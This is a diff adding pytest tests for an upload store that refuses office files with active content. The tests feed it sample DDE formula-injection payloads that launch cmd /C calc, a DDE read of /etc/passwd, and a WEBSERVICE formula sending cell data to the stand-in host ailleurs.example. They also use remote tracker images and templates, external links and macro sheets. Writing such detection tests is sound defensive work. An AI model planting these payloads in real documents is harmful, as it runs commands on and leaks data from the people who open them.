@@ -192,6 +192,83 @@ async def test_what_a_document_fetches_is_seen_however_it_is_written(
         await files.put_bytes(cipher(), office(part), nom="lettre.docx", limits=ANY)
 
 
+def sheet(formula: str) -> tuple[str, str]:
+    return ("xl/worksheets/sheet1.xml", f"<worksheet><c r='A1'><f>{formula}</f></c></worksheet>")
+
+
+DDE_LINK = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        ("xl/externalLinks/externalLink1.xml", DDE_LINK),
+        ("xl/externalLinks/lien.bin", DDE_LINK),
+        relation("externalLinkPath", "file:///\\\\ailleurs.example\\comptes.xlsx"),
+        sheet("cmd|' /C calc'!A0"),
+        sheet("'cmd'|'/C calc'!A0"),
+        sheet("1+<!-- -->cmd|'/C calc'!A0"),
+        sheet('DDE("soffice";"/etc/passwd";"A1")'),
+        sheet('_xlfn.WEBSERVICE("https://ailleurs.example/"&amp;A1)'),
+        ("xl/workbook2.xml", "<workbook><definedName name='a'>cmd|'/C calc'!A0</definedName></workbook>"),
+        ("xl/macrosheets/sheet1.xml", "<x/>"),
+        ("xl/connections.xml", "<connections><connection id='1' refreshOnLoad='1'/></connections>"),
+    ],
+)
+async def test_a_workbook_that_asks_another_program(files: FileStore, part: tuple[str, str]) -> None:
+    with pytest.raises(ActiveContent):
+        await files.put_bytes(cipher(), office(part, heart="xl/workbook.xml"), nom="comptes.xlsx", limits=ANY)
+
+
+def shown_by_text(element: str) -> tuple[str, str]:
+    return ("styles.xml", f"<o:document xmlns:o='urn:o' xmlns:x='urn:x'>{element}</o:document>")
+
+
+@pytest.mark.parametrize(
+    "element",
+    [
+        "<o:image x:href='https://ailleurs.example/traceur.png'/>",
+        "<o:image x:href='//ailleurs.example/traceur.png'/>",
+        "<o:image x:href='../photo.png'/>",
+        "<o:image x:href='&#47;etc/passwd'/>",
+        "<o:section-source x:href='file:///c:/comptes.odt'/>",
+        "<o:object x:href='https://ailleurs.example/objet'/>",
+        "<o:object-ole x:href='./Object 1'/>",
+        "<o:dde-source o:dde-application='cmd' o:dde-topic='/c calc'/>",
+        "<o:dde-connection-decl o:dde-application='cmd'/>",
+        "<o:event-listener x:href='vnd.sun.star.script:a'/>",
+        "<o:script>Shell</o:script>",
+        "<o:table-cell o:formula='of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)'/>",
+        "<o:template x:href='https://ailleurs.example/m.ott'/>",
+    ],
+)
+async def test_an_open_document_that_shows_what_is_elsewhere(files: FileStore, element: str) -> None:
+    made = office(shown_by_text(element), heart="content.xml")
+    with pytest.raises(ActiveContent):
+        await files.put_bytes(cipher(), made, nom="lettre.odt", limits=ANY)
+
+
+async def test_ordinary_workbooks_and_open_documents_are_kept(files: FileStore) -> None:
+    """Sums, sheets whose names have a bar, links that one clicks, pictures inside, the author's own template."""
+    book = office(
+        sheet('SUM(A1:A9)*1.2&amp;" | DDE(x)"'),
+        ("xl/worksheets/sheet2.xml", sheet("'Ventes | 2026'!B2")[1]),
+        relation("hyperlink", "https://exemple.fr"),
+        ("xl/media/dessin.svg", "<!DOCTYPE svg><svg xmlns='http://www.w3.org/2000/svg'/>"),
+        ("xl/note.txt", "<pas du XML"),
+        heart="xl/workbook.xml",
+    )
+    text = office(
+        shown_by_text(
+            "<o:scripts/><o:a x:href='https://exemple.fr'>lien</o:a><o:image x:href='Pictures/1.png'/>"
+            "<o:object x:href='./Object 1'/><o:template x:href='file:///C:/Modeles/lettre.ott'/>"
+        ),
+        heart="content.xml",
+    )
+    for nom, data, type_ in (("comptes.xlsx", book, XLSX), ("lettre.odt", text, ODT)):
+        assert (await files.put_bytes(cipher(), data, nom=nom, limits=ANY)).type == type_
+
+
 @pytest.mark.parametrize(
     "data",
     [
